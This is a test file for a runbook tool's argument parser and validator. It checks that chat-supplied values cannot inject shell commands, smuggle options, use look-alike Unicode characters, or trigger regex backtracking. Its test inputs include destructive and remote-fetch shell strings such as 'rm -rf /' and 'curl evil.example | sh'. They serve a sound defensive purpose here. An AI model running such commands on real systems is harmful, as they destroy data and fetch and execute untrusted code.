import { describe, expect, it } from "vitest";
import { parseRunArgs, validateRunbookArgs } from "../../../src/runbook/runbook-args.ts";
import type { RunbookCommand } from "../../../src/runbook/runbook-command.ts";
import { planRunbook } from "../../../src/runbook/runbook-plan.ts";
import { runRunbook } from "../../../src/runbook/runbook-run.ts";
import { commandFromYaml } from "../../helpers/runbook-folder.ts";

// Prints the argv it received as JSON: the ground truth of what a program would see.
const PRINT_ARGV = "process.stdout.write(JSON.stringify(process.argv.slice(1)))";
const argvCommand = (pattern: string) =>
  commandFromYaml(`
name: show-argv
description: prints its arguments
args:
  - { name: value, type: string, pattern: ${JSON.stringify(pattern)} }
exec: [${JSON.stringify(process.execPath)}, "-e", ${JSON.stringify(PRINT_ARGV)}, "--", "{value}", "after"]
`);

async function argvFor(cmd: RunbookCommand, value: string): Promise<string[] | string[][]> {
  const checked = validateRunbookArgs(cmd, { value });
  if (!checked.ok) return [checked.errors];
  const result = await runRunbook(planRunbook(cmd, checked.values, {}), {
    timeoutMs: 5000,
    secrets: [],
  });
  expect(result.exitCode).toBe(0);
  return JSON.parse(result.output) as string[];
}

describe("parseRunArgs", () => {
  it("reads key=value pairs and --dry-run", () => {
    expect(parseRunArgs("namespace=prod deployment=api --dry-run")).toEqual({
      values: { namespace: "prod", deployment: "api" },
      dryRun: true,
    });
    expect(parseRunArgs("")).toEqual({ values: {}, dryRun: false });
  });

  it("keeps a quoted value whole, straight or curly quotes, and allows empty values", () => {
    expect(
      parseRunArgs(
        `reason="disk full on ctl-1" note='single quoted' who=\u201cbob smith\u201d empty=`,
      ),
    ).toEqual({
      values: { reason: "disk full on ctl-1", note: "single quoted", who: "bob smith", empty: "" },
      dryRun: false,
    });
    expect(parseRunArgs('"reason=a b"')).toEqual({ values: { reason: "a b" }, dryRun: false });
  });

  it("refuses what is not name=value", () => {
    expect(parseRunArgs("prod")).toEqual({
      error:
        '"prod" is not name=value: write name=value, and quote a value with spaces (name="a b")',
    });
    expect(parseRunArgs("--force")).toEqual({
      error: "unknown option --force: the only option is --dry-run",
    });
    expect(parseRunArgs("--namespace=prod")).toEqual({
      error: '"--namespace" is not an argument name: write name=value, such as namespace=prod',
    });
    expect(parseRunArgs("a=1 a=2")).toEqual({ error: "a is given twice" });
    expect(parseRunArgs('a="x"y')).toEqual({ error: "a=…: put a space after the closing quote" });
  });
});

describe("validateRunbookArgs", () => {
  const cmd = commandFromYaml(`
name: kinds
description: every kind of argument
args:
  - { name: unit, type: string, pattern: "[a-z0-9.-]+", example: nginx.service }
  - { name: type, type: enum, values: [A, AAAA], default: A }
  - { name: lines, type: integer, min: 1, max: 500, default: 20 }
  - { name: follow, type: boolean, default: false }
exec: [echo, "{unit}", "{type}", "{lines}", "{follow}"]
`);

  it("converts values to their types and applies defaults", () => {
    expect(validateRunbookArgs(cmd, { unit: "nginx.service" })).toEqual({
      ok: true,
      values: { unit: "nginx.service", type: "A", lines: 20, follow: false },
    });
    expect(
      validateRunbookArgs(cmd, { unit: "a", type: "AAAA", lines: "500", follow: "yes" }),
    ).toEqual({ ok: true, values: { unit: "a", type: "AAAA", lines: 500, follow: true } });
  });

  it("names each bad argument and shows how to write it", () => {
    expect(
      validateRunbookArgs(cmd, { type: "MX", lines: "1e3", follow: "maybe", colour: "red" }),
    ).toEqual({
      ok: false,
      errors: [
        'unknown argument "colour": kinds takes unit, type, lines, follow',
        "unit is required: unit=VALUE (e.g. unit=nginx.service), the whole value matching [a-z0-9.-]+",
        'type: "MX" is not one of the choices; expected type=A|AAAA',
        'lines: "1e3" is not a whole number; expected lines=<integer from 1 to 500>',
        'follow: "maybe" is not true or false; expected follow=true|false',
      ],
    });
    expect(validateRunbookArgs(cmd, { unit: "x", lines: "0" })).toEqual({
      ok: false,
      errors: ["lines: 0 is out of range; expected lines=<integer from 1 to 500>"],
    });
  });

  it("says a command takes no arguments", () => {
    const none = commandFromYaml("name: none\ndescription: x\nexec: [id]\n");
    expect(validateRunbookArgs(none, { x: "1" })).toEqual({
      ok: false,
      errors: ['unknown argument "x": none takes no arguments'],
    });
  });
});

describe("a catastrophic argument pattern", () => {
  // Without the linear-time fallback (test/setup/process-settings.ts, as createApp and the CLI
  // set it) the hostile value takes minutes (exponential backtracking) and the test times out.
  it("cannot be frozen by a value typed in chat", () => {
    const command = commandFromYaml(`
name: nested
description: a pattern that backtracks exponentially
args:
  - { name: value, type: string, pattern: "(a+)+" }
exec: [echo, "{value}"]
`);
    const hostile = validateRunbookArgs(command, { value: `${"a".repeat(40)}b` });
    expect(hostile.ok ? [] : hostile.errors.join("\n")).toMatch(/does not match/);
    expect(validateRunbookArgs(command, { value: "aaaa" }).ok).toBe(true);
  });
});

describe("argument injection", () => {
  // A deliberately loose pattern: even then, no value escapes its one argv element.
  const loose = argvCommand("[^\\n]{1,200}");
  // A tight one, as the shipped commands use.
  const tight = argvCommand("[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?");

  it.each([
    "api; rm -rf /",
    "$(id)",
    "`id`",
    "a b c",
    "x && curl evil.example | sh",
    "'quoted' \"double\"",
    "* ? [glob]",
    `\${HOME} $PATH ~`,
    "a > /tmp/out",
    // Non-ASCII text is fine when it is not a look-alike: whole words of one script, accents.
    "Zürich café",
    "кластер nova",
    "api \u2014 down",
  ])("passes %j as one literal argv element when the pattern lets it through", async (value) => {
    expect(await argvFor(loose, value)).toEqual([value, "after"]);
  });

  it.each([
    ["api; rm -rf /", /does not match/],
    ["$(id)", /does not match/],
    ["`id`", /does not match/],
    ["api prod", /does not match/],
    // A Latin letter outside the pattern: the error says which character it is.
    ["caf\u00e9", /contains U\+00E9 "é", which is not ASCII\) does not match/],
    ["nova\uff0dapi", /contains U\+FF0D/],
  ])("rejects %j with a tight pattern", async (value, message) => {
    const result = await argvFor(tight, value);
    expect(result).toHaveLength(1);
    expect(String(result[0])).toMatch(message);
  });

  it.each([
    ["--kubeconfig=/tmp/evil", /starts with "-", which the program would read as an option/],
    ["-rf", /starts with "-"/],
    ["api\nprod", /contains a control or invisible character/],
    ["api\rprod", /contains a control or invisible character/],
    ["api\u0000", /contains a control or invisible character/],
    ["api\u202eorp", /contains a control or invisible character/],
    ["api\u200b", /contains a control or invisible character/],
    // Look-alikes of "-" at the start: fullwidth, small and Unicode hyphen-minus, the minus
    // sign, dashes, the superscript minus.
    ["\uff0drf", /starts with U\+FF0D "－", which looks like "-"/],
    ["\u2212rf", /starts with U\+2212 "−", which looks like "-"/],
    ["\ufe63rf", /starts with U\+FE63/],
    ["\u2010\u2010kubeconfig=/tmp/evil", /starts with U\+2010/],
    ["\u2013rf", /starts with U\+2013/],
    ["\u2014rf", /starts with U\+2014/],
    ["\u207brf", /starts with U\+207B/],
    // A word mixing Latin with Cyrillic or Greek letters: "nova" with a Cyrillic о, a Greek ο.
    [
      "n\u043eva",
      /"nоva" contains the word "nоva", which mixes Latin and Cyrillic letters \(U\+043E "о"\) that look alike/,
    ],
    ["n\u03bfva-api", /the word "nοva", which mixes Latin and Greek letters \(U\+03BF "ο"\)/],
    ["\u0430pi", /mixes Latin and Cyrillic letters \(U\+0430 "а"\)/],
    // Compatibility forms that stand for plain letters: fullwidth, mathematical bold, ligatures.
    ["\uff4eova", /contains U\+FF4E "ｎ", which is another way of writing "n"/],
    ["\u{1d427}ova", /contains U\+1D427 "𝐧", which is another way of writing "n"/],
    ["\ufb01le", /contains U\+FB01 "ﬁ", which is another way of writing "fi"/],
  ])("rejects %j whatever the pattern says", async (value, message) => {
    const result = await argvFor(loose, value);
    expect(result).toHaveLength(1);
    expect(String(result[0])).toMatch(message);
  });

  it("keeps a value that tries to smuggle a second argument inside one element, via /bin/echo", async () => {
    const echo = commandFromYaml(`
name: echo
description: x
args: [{ name: text, type: string, pattern: "[^\\\\n]{1,100}" }]
exec: [/bin/echo, "{text}"]
`);
    const parsed = parseRunArgs('text="$(id) `id`; echo pwned"');
    if ("error" in parsed) throw new Error(parsed.error);
    const checked = validateRunbookArgs(echo, parsed.values);
    if (!checked.ok) throw new Error(checked.errors.join("\n"));
    const result = await runRunbook(planRunbook(echo, checked.values, {}), {
      timeoutMs: 5000,
      secrets: [],
    });
    expect(result.output).toBe("$(id) `id`; echo pwned\n");
  });
});
